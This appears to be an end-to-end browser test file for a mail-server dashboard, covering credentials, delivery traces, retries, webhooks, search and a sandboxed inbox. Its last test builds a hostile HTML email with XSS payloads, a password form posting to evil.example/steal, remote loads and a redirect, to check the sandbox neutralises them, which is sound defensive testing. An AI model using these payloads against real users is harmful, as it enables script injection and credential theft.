// The dashboard in a browser against the real server, about mail: a credential and its snippet, a submission with it that appears without a reload,
// its trace, another try of a deferred one, the sandbox as an inbox, a webhook that is told, and a hostile message that does no harm.
// Needs: chromium, knot, unbound

import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { before, test } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { makeAuthority } from '../support/authority.ts';
import { authorization, openPage, shoot, startBrowser } from '../support/browser.ts';
import type { Opened } from '../support/browser.ts';
import { startDns } from '../support/dns.ts';
import { startReceiver } from '../support/receiver.ts';
import { startPostern } from '../support/postern.ts';
import type { Postern } from '../support/postern.ts';
import { accepted, connectTo } from '../support/submit.ts';
import { atEnd } from '../support/temp.ts';

const HOST = '127.38.0.1';
let browser: Browser;
let postern: Postern;
let opened: Opened;
let page: Page;
let open = false;
let hook: string;
const told: string[] = [];

before(async () => {
  const receiver = await startReceiver({ address: HOST, reply: (line) => (!open && line.startsWith('RCPT') ? '450 4.2.1 Come back later' : undefined) });
  const authority = makeAuthority();
  const pair = authority.issue(['app.test']);
  const server = createServer({ cert: pair.cert, key: pair.key }, (request, response) => {
    let text = '';
    request.on('data', (chunk: Buffer) => (text += chunk.toString()));
    request.on('end', () => {
      told.push(`${request.headers['webhook-signature'] === undefined ? 'unsigned' : 'signed'} ${(JSON.parse(text) as { type: string }).type}`);
      response.writeHead(204).end();
    });
  });
  server.listen(0, HOST);
  await once(server, 'listening');
  atEnd(() => {
    server.closeAllConnections();
    server.close();
  });
  hook = `https://app.test:${(server.address() as AddressInfo).port}/hook`;
  const dns = await startDns({ 'friends.test': `@ MX 10 mx\nmx A ${HOST}`, 'app.test': `@ A ${HOST}` });
  postern = await startPostern({
    profiles: ['submission', 'submissions'],
    config: `[dns]\nservers = ["${dns.server}"]\n[delivery]\nmx_port = ${receiver.port}\nallow_private_addresses = true\nca_file = "${authority.caFile}"\n[queue]\nretry = { first = "1h", factor = 1, max = "1h", jitter = 0 }\n`,
  });
  browser = await startBrowser();
  opened = await openPage(browser, postern.http, { extraHTTPHeaders: await authorization(postern) });
  ({ page } = opened);
});

async function submit(login: { username: string; password: string }, to: string, content: string): Promise<string> {
  const client = await connectTo(postern.port('submission'), { credential: login });
  const id = await accepted(client, { from: 'app@shop.test', to: [to], content });
  await client.quit();
  return id;
}

const login = { username: '', password: '' };

test('a credential: made, its password shown once, a snippet with it', async () => {
  await page.goto('/credentials');
  await page.getByRole('button', { name: 'New credential' }).first().click();
  const form = page.getByRole('dialog');
  await form.getByLabel('Name').fill('shop');
  await form.getByRole('radio', { name: /^Live/ }).check();
  await form.getByRole('button', { name: /^Create/ }).click();
  const shown = page.getByRole('dialog');
  await shown.getByText('Take the password now').waitFor();
  const codes = await shown.locator('code').allTextContents();
  [login.username = '', login.password = ''] = codes.map((text) => text.trim());
  assert.match(login.password, /^[a-z2-9]{32}$/);
  assert.match((await shown.textContent()) ?? '', /587|465/);
  await shoot(page, 'credential-new');
  const dialog = await page.getByRole('dialog').boundingBox();
  const copy = await page.getByRole('button', { name: 'Copy the snippet for Nodemailer' }).boundingBox();
  assert.ok(dialog !== null && copy !== null && copy.x + copy.width < dialog.x + dialog.width, 'the snippet lies within the dialog, its button too');
  await page.getByRole('button', { name: 'I have it' }).click();
  await page.reload();
  await page.getByRole('button', { name: 'Snippets for shop' }).waitFor();
  assert.ok(!((await page.locator('main').textContent()) ?? '').includes(login.password));
});

test('a submission with it appears without a reload; its trace explains; another try delivers it', async () => {
  await page.goto('/messages');
  await page.getByRole('heading', { name: 'Messages' }).waitFor();
  await page.evaluate('window.notReloaded = true');
  await submit(login, 'ann@friends.test', 'From: app@shop.test\r\nTo: ann@friends.test\r\nSubject: Your order\r\n\r\nIt is on its way.\r\n');
  await page.getByText('Your order').waitFor();
  await page.locator('main table').getByText('deferred').waitFor();
  assert.equal(await page.evaluate('window.notReloaded'), true);
  await page.getByText('Your order').click();
  await page.getByText('Come back later').first().waitFor();
  await page.getByText('What was said').click();
  const said = page.getByRole('group', { name: 'What was said' });
  await said.getByText(/^RCPT TO:<ann@friends\.test>/).waitFor();
  await said.getByText(/^450 4\.2\.1 Come back later/).waitFor();
  await shoot(page, 'trace-deferred');
  open = true;
  await page.getByRole('button', { name: 'Try now' }).click();
  await page.locator('main table').getByText('delivered').first().waitFor();
  await shoot(page, 'trace-delivered');
  assert.equal(await page.evaluate('window.notReloaded'), true);
});

test('a webhook: made, tested, and told of the next message', async () => {
  await page.goto('/webhooks');
  await page.getByRole('button', { name: 'New webhook' }).first().click();
  await page.getByLabel('Address').fill(hook);
  await page.getByRole('checkbox', { name: 'delivered' }).check();
  await page.getByRole('button', { name: 'Create' }).click();
  assert.match((await page.getByRole('dialog').locator('code').first().textContent()) ?? '', /whsec_/);
  await page.getByRole('button', { name: 'I have it' }).click();
  await page.getByRole('button', { name: 'Send a test' }).click();
  await page.getByText(/^Taken with 204/).waitFor();
  await submit(login, 'bob@friends.test', 'From: app@shop.test\r\nTo: bob@friends.test\r\nSubject: Told\r\n\r\nx\r\n');
  await page.getByRole('button', { name: 'What was told' }).click();
  await page.getByRole('cell', { name: 'message.delivered' }).waitFor();
  await shoot(page, 'webhook');
  assert.ok(told.includes('signed message.delivered'), told.join(', '));
});

test('a message is found by a word of its subject', async () => {
  await page.goto('/messages');
  await page.getByText('Your order').waitFor();
  await page.getByLabel('Search').fill('tol');
  await page.getByLabel('Search').press('Enter');
  await page.getByText('Your order').waitFor({ state: 'detached' });
  await page.getByRole('link', { name: 'Told' }).waitFor();
  assert.match(page.url(), /text=tol/);
});

test('the sandbox is an inbox, and a hostile message in it does no harm', async () => {
  const box = await postern.credential('box');
  const id = await submit(
    box,
    'cat@friends.test',
    [
      'From: "<img src=x onerror=alert(1)>" <app@shop.test>',
      'To: cat@friends.test',
      'Subject: <script>document.title="owned"</script>',
      'MIME-Version: 1.0',
      'Content-Type: text/html; charset=utf-8',
      '',
      '<script>top.document.title="owned"</script><img src="https://tracker.example/pixel.gif" onerror="top.location=\'https://evil.example\'">',
      '<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/b.png);position:fixed;inset:0;z-index:99999}</style>',
      '<form action="https://evil.example/steal"><input name=password></form><a href="javascript:top.document.title=\'owned\'">Click</a>',
      '<iframe src="https://evil.example"></iframe><meta http-equiv="refresh" content="0;url=https://evil.example"><p>Harmless words</p>',
      '',
    ].join('\r\n'),
  );
  await page.goto('/sandbox');
  await page.getByText('<script>document.title="owned"</script>').first().click();
  const frame = page.frameLocator('iframe[title="The message as it looks"]');
  await frame.getByText('Harmless words').waitFor();
  await page.getByText('Remote content is blocked').waitFor();
  await frame
    .getByText('Click')
    .click({ timeout: 2000 })
    .catch(() => {});
  await new Promise((resolve) => setTimeout(resolve, 500));
  assert.doesNotMatch(await page.title(), /owned/);
  assert.ok(page.url().startsWith(`${postern.http}/sandbox`), page.url());
  assert.deepEqual(opened.foreign, []);
  await shoot(page, 'sandbox-hostile');
  assert.match(page.url(), new RegExp(id));
});
